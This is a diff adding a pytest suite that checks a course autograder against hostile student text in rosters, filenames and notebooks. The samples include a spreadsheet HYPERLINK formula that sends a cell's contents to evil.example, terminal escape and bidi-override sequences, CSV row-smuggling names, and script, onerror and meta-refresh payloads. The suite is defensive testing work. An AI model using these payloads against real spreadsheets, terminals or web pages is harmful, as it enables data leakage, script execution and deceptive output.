@@ -1,0 +1,220 @@
+"""Student-controlled text is data at every exit we write: the terminal, grades.csv, the class report.
+
+Names and ids come from the roster and the LMS download, messages and values from the students'
+code. Each test sends hostile text through the real commands (`python -m grading.intake`,
+`python -m grading.autograde`, `nbgrader export`, `python -m grading.report`) and checks what
+the instructor gets: no control byte printed, every CSV row and column intact and formula-free,
+the report always written, the honest students graded and shown correctly.
+"""
+import csv
+import json
+import os
+import re
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from grading import course, synthetic
+from grading.provided import ASSIGNMENT
+from grading.untrusted_text import for_plot, for_spreadsheet, for_terminal
+
+from browser_support import CHROMIUM, CHROMIUM_ARGS
+
+NB1, NB2 = "1_gradient_checking_1d.ipynb", "2_gradient_checking_nd.ipynb"
+
+ESC = "\x1b"
+# What a terminal would act on: C0 controls but the newline, DEL, C1 controls, bidi overrides.
+CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]")
+
+# The roster as an LMS exports it (quoted as CSV requires): hostile names, plain ids.
+ROSTER = [
+    ["id", "first_name", "last_name", "email", "lms_id"],
+    ["ada", '=HYPERLINK("http://evil.example/?"&A1,"Ada")', "Lovelace,\nmallory,100", "ada@example.org", "12345"],
+    ["grace", f"Grace{ESC}[2K\nmallory  100", '"Hopper"', "@SUM(A1:A9)", "23456"],
+    ["alan", "Alan", "Turing", "", "34567"],
+]
+HONEST = {"ada": 100, "grace": 100, "alan": 0}   # alan hands in the blank release
+
+
+HOSTILE_MARKDOWN = ("My notes <script>window.pwned = 'markdown script'</script>\n\n"
+                    "<img src=x onerror=\"window.pwned = 'markdown onerror'\">\n\n"
+                    "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">")
+HOSTILE_CODE = ("from IPython.display import HTML, Javascript, display\n"
+                "display(HTML(\"<b id='kept'>bold</b><script>window.pwned = 'html output'</script>"
+                "<img src=x onerror=\\\"window.pwned = 'output onerror'\\\">\"))\n"
+                "display(Javascript(\"window.pwned = 'javascript output'\"))\n"
+                "print(\"<script>window.pwned = 'printed'</script>\")")
+
+
+def with_hostile_cells(notebook):
+    """A copy of `notebook` with a markdown cell and a code cell of script added at its end."""
+    notebook = nbformat.from_dict(json.loads(json.dumps(notebook)))
+    notebook.cells += [nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN), nbformat.v4.new_code_cell(HOSTILE_CODE)]
+    return notebook
+
+
+def printed_controls(text):
+    return sorted({hex(ord(c)) for c in CONTROL.findall(text)})
+
+
+def run(*command, cwd=None):
+    env = {key: value for key, value in os.environ.items() if key != "GRADEBOOK_URL"}
+    env["PATH"] = str(Path(sys.executable).parent) + os.pathsep + env.get("PATH", "")
+    return subprocess.run(command, cwd=cwd, env=env, capture_output=True, text=True)
+
+
+@pytest.fixture(scope="module")
+def graded(new_course, tmp_path_factory):
+    """A class taken in through intake with hostile names and notebook content, then graded by the
+    real commands."""
+    folder = tmp_path_factory.mktemp("student_text")
+    root = new_course("student_text")
+    roster = folder / "roster.csv"
+    with open(roster, "w", newline="") as handle:
+        csv.writer(handle).writerows(ROSTER)
+    solved, blank = synthetic.submission(), synthetic.submission(complete=False)
+    members = {
+        "lovelaceada_12345_678901_1_gradient_checking_1d.ipynb": solved[NB1],
+        "lovelaceada_12345_678901_2_gradient_checking_nd.ipynb": solved[NB2],
+        "hoppergrace_23456_678902_1_gradient_checking_1d.ipynb": with_hostile_cells(solved[NB1]),
+        "hoppergrace_23456_678902_2_gradient_checking_nd.ipynb": solved[NB2],
+        "turingalan_34567_678903_1_gradient_checking_1d.ipynb": blank[NB1],
+        "turingalan_34567_678903_2_gradient_checking_nd.ipynb": blank[NB2],
+        # Not on the roster; the display name part carries an escape sequence and a bidi override.
+        f"evil{ESC}]0;owned{ESC}\\\u202emallory_99999_678904_1_gradient_checking_1d.ipynb": solved[NB1],
+    }
+    zip_path = folder / "submissions.zip"
+    with zipfile.ZipFile(zip_path, "w") as archive:
+        for name, notebook in members.items():
+            archive.writestr(name, json.dumps(notebook))
+    intake = run(sys.executable, "-m", "grading.intake", str(zip_path), "--roster", str(roster), "--root", str(root))
+    assert intake.returncode == 0, intake.stderr
+    graded = run(sys.executable, "-m", "grading.autograde", "--root", str(root), "--quiet", "--workers", "2")
+    return root, intake, graded
+
+
+def test_the_intake_summary_prints_no_control_character(graded):
+    _, intake, _ = graded
+    assert "not on the roster: LMS id 99999" in intake.stdout
+    assert printed_controls(intake.stdout + intake.stderr) == []
+    assert "\\x1b]0;owned" in intake.stdout, "the escape is shown, as an escape"
+
+
+def test_grades_csv_keeps_every_row_and_column_and_runs_no_formula(graded):
+    root, _, grading = graded
+    assert grading.returncode == 0, grading.stdout + grading.stderr
+    stock_export = run(os.path.join(os.path.dirname(sys.executable), "nbgrader"), "export",
+                       "--to", "exported.csv", cwd=root)
+    assert stock_export.returncode == 0, stock_export.stderr
+    for name in ("grades.csv", "exported.csv"):
+        with open(root / name, newline="") as handle:
+            rows = list(csv.reader(handle))
+        header, body = rows[0], rows[1:]
+        assert all(len(row) == len(header) for row in body), f"{name}: a row with columns added or lost"
+        by_id = {row[header.index("student_id")]: dict(zip(header, row)) for row in body}
+        assert {s: float(row["score"]) for s, row in by_id.items()} == HONEST, name
+        names = {s: (row["first_name"], row["last_name"], row["email"]) for s, row in by_id.items()}
+        assert names["ada"] == ("'" + ROSTER[1][1], ROSTER[1][2], ROSTER[1][3])
+        assert names["grace"] == (ROSTER[2][1], ROSTER[2][2], "'" + ROSTER[2][3])
+        for row in body:
+            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), f"{name}: a formula in {row}"
+
+
+def test_the_grading_table_prints_no_control_character(graded):
+    _, _, grading = graded
+    assert printed_controls(grading.stdout + grading.stderr) == []
+    table = {line.split()[0]: line.split()[7] for line in grading.stdout.splitlines()
+             if line.split() and line.split()[0] in HONEST}
+    assert {s: float(total) for s, total in table.items()} == HONEST
+
+
+def test_a_student_id_with_escape_sequences_is_printed_as_escapes(new_course):
+    """A folder in submitted/ named by someone with shell access to it is shown, not obeyed."""
+    root = new_course("escape_id")
+    course.add_submission(root, f"mallory{ESC}[1A{ESC}[2K", synthetic.submission(complete=False))
+    grading = run(sys.executable, "-m", "grading.autograde", "--root", str(root), "--quiet", "--workers", "1",
+                  "--no-feedback")
+    assert printed_controls(grading.stdout + grading.stderr) == []
+    assert "mallory\\x1b[1A\\x1b[2K" in grading.stdout
+
+
+def test_the_class_report_is_written_whatever_a_diagnosis_says(new_course):
+    """A diagnosis quotes what the student's code raised or returned; mathtext would parse a `$`."""
+    root = new_course("report_text")
+    results = [{"student": s, "scores": {}, "flags": [], "problems": [],
+                "diagnoses": {"gradient_check": message}}
+               for s, message in [("a", r"raised ValueError: $\frac{1}{$"), ("b", "returned '$x^{$'"),
+                                  ("c", f"printed {ESC}[31m<script>alert(1)</script>")]]
+    (root / "reports").mkdir()
+    (root / "reports" / "autograde.json").write_text(json.dumps(results))
+    report = run(sys.executable, "-m", "grading.report", "--root", str(root))
+    assert report.returncode == 0, report.stderr
+    assert (root / "reports" / "mistakes.png").read_bytes().startswith(b"\x89PNG")
+    page = (root / "reports" / "class_report.html").read_text()
+    assert "<script>" not in page and "&lt;script&gt;" in page
+
+
+def test_no_script_a_student_wrote_runs_in_their_feedback_page(graded):
+    """grace added markdown and outputs full of script to a complete notebook: her feedback page,
+    opened in Chromium, runs none of it, shows her text, and still says 100."""
+    root, _, _ = graded
+    page_path = root / "feedback" / "grace" / ASSIGNMENT / NB1.replace(".ipynb", ".html")
+    html = page_path.read_text()
+    assert "Content-Security-Policy" in html and "My notes" in html
+    if not CHROMIUM.exists():
+        pytest.fail(f"{CHROMIUM} is missing: apt-get install chromium")
+    from playwright.sync_api import sync_playwright
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
+        try:
+            page = browser.new_page()
+            dialogs = []
+            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+            page.goto(page_path.as_uri())
+            page.wait_for_load_state("load")
+            page.wait_for_timeout(500)   # an onerror handler runs once its image has failed
+            assert page.evaluate("() => window.pwned") is None
+            assert dialogs == [] and page.url == page_path.as_uri()
+            assert "My notes" in page.inner_text("body") and page.inner_text("#kept") == "bold"
+            score, out_of = re.search(r"Score: ([\d.]+) / ([\d.]+)", page.inner_text("h4")).groups()
+            assert float(score) == float(out_of) > 0, "grace's notebook keeps its full score"
+        finally:
+            browser.close()
+
+
+@pytest.mark.parametrize("text, shown", [
+    ("plain text, ünïcødé", "plain text, ünïcødé"),
+    (f"{ESC}[2K\rfake row", "\\x1b[2K\\x0dfake row"),
+    ("two\nlines", "two\\x0alines"),
+    ("\u202eevil\u2066", "\\u202eevil\\u2066"),
+    ("zero\u200bwidth\x7f\x9b", "zero\\u200bwidth\\x7f\\x9b"),
+])
+def test_for_terminal_shows_every_control_as_an_escape(text, shown):
+    assert for_terminal(text) == shown
+    assert printed_controls(for_terminal(text)) == []
+
+
+def test_for_terminal_keeps_newlines_only_when_asked():
+    assert for_terminal("a\nb\rc", keep_newlines=True) == "a\nb\\x0dc"
+
+
+@pytest.mark.parametrize("cell, safe", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\uff1d1+1", "'\uff1d1+1"), ("Ada", "Ada"), ("", ""), (3.5, 3.5), (None, None), ("a=b", "a=b"),
+])
+def test_for_spreadsheet_neutralizes_formulas_only(cell, safe):
+    assert for_spreadsheet(cell) == safe
+
+
+def test_for_plot_is_plain_text_for_matplotlib():
+    import matplotlib
+    matplotlib.use("Agg")
+    import matplotlib.pyplot as plt
+    fig, ax = plt.subplots()
+    ax.set_title(for_plot(r"$\frac{1}{$ and $$ and \$"))
+    fig.canvas.draw()      # mathtext would raise ValueError here
+    plt.close(fig)
